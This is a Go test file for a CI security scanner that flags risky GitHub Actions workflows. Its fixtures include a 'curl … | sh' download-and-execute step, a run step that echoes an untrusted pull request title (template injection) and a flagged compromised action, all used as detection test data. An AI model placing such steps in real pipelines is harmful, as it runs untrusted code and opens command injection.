package scan

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/buildwall/buildwall/internal/advisory"
	"github.com/buildwall/buildwall/internal/config"
	"github.com/buildwall/buildwall/internal/finding"
)

const ciWorkflow = `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: tj-actions/changed-files@v44
      - run: echo "${{ github.event.pull_request.title }}"
`

const ciAction = `name: local
runs:
  using: composite
  steps:
    - run: curl -fsSL https://get.example/x | sh
      shell: bash
`

const ciClean = `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`

func TestScanCIFiles(t *testing.T) {
	dir := writeTree(t, map[string]string{
		".github/workflows/pr.yml":             ciWorkflow,
		".github/workflows/clean.yaml":         ciClean,
		".github/workflows/broken.yml":         "on: [push\n",
		".github/workflows/README.md":          "not a workflow",
		".github/workflows/sub/ignored.yml":    ciWorkflow, // GitHub ignores subdirectories
		".github/actions/setup/action.yml":     ciAction,
		"tools/action.yaml":                    ciAction,
		"node_modules/x/action.yml":            ciAction, // installed packages are skipped
		"services/api/.github/workflows/a.yml": ciClean,
		"docs/workflow.yml":                    ciWorkflow, // not under .github/workflows
	})
	res := run(t, Options{Paths: []string{dir}, Advisories: advisory.Embedded()})
	wantFiles := []string{
		".github/actions/setup/action.yml",
		".github/workflows/broken.yml",
		".github/workflows/clean.yaml",
		".github/workflows/pr.yml",
		"services/api/.github/workflows/a.yml",
		"tools/action.yaml",
	}
	if diff := cmp.Diff(wantFiles, res.Files); diff != "" {
		t.Errorf("files mismatch (-want +got):\n%s", diff)
	}
	want := []string{
		".github/actions/setup/action.yml:5 download-exec",
		".github/workflows/broken.yml:1 unparseable-config",
		".github/workflows/pr.yml:3 excessive-permissions",
		".github/workflows/pr.yml:6 known-compromised-action",
		".github/workflows/pr.yml:6 unpinned-action",
		".github/workflows/pr.yml:7 template-injection",
		"tools/action.yaml:5 download-exec",
	}
	if diff := cmp.Diff(want, summary(res.Findings)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	ruleIDs := map[string]bool{}
	for _, r := range res.Rules {
		ruleIDs[r.ID] = true
	}
	for _, id := range []string{"unpinned-action", "template-injection", "unparseable-config", "missing-integrity"} {
		if !ruleIDs[id] {
			t.Errorf("Result.Rules lacks %s", id)
		}
	}
}

func TestScanCIConfigIgnoreAndSingleFile(t *testing.T) {
	dir := writeTree(t, map[string]string{".github/workflows/pr.yml": ciWorkflow})
	cfg, err := config.Parse("buildwall.yml", []byte(`scan:
  ignore:
    - rule: unpinned-action
      reason: pinned by the platform team
    - rule: known-compromised-action
      package: tj-actions/changed-files
      reason: test
    - path: .github/workflows/*.yml
      rule: template-injection
      reason: test
`))
	if err != nil {
		t.Fatal(err)
	}
	res := run(t, Options{Paths: []string{dir}, Config: cfg, Advisories: advisory.Embedded()})
	want := []string{".github/workflows/pr.yml:3 excessive-permissions"}
	if diff := cmp.Diff(want, summary(finding.Active(res.Findings))); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	if res.Suppressed != 3 {
		t.Errorf("Suppressed = %d, want 3", res.Suppressed)
	}
	// A workflow named directly is recognized by where it lives.
	res = run(t, Options{Paths: []string{filepath.Join(dir, ".github", "workflows", "pr.yml")}})
	if diff := cmp.Diff([]string{"pr.yml"}, res.Files); diff != "" {
		t.Errorf("single file: files mismatch (-want +got):\n%s", diff)
	}
	if len(res.Findings) == 0 {
		t.Error("single file: no findings")
	}
}

func TestScanCITooLarge(t *testing.T) {
	dir := writeTree(t, map[string]string{".github/workflows/big.yml": ciClean})
	res := run(t, Options{Paths: []string{dir}, MaxFileSize: 10})
	if diff := cmp.Diff([]string{".github/workflows/big.yml:0 unscanned-path"}, summary(res.Findings)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	if err := os.Chmod(filepath.Join(dir, ".github", "workflows", "big.yml"), 0); err != nil {
		t.Fatal(err)
	}
	if os.Geteuid() == 0 {
		return // root reads anything
	}
	res = run(t, Options{Paths: []string{dir}})
	if len(res.Findings) != 1 || res.Findings[0].Rule != "unparseable-config" {
		t.Errorf("unreadable file: findings = %v", summary(res.Findings))
	}
}
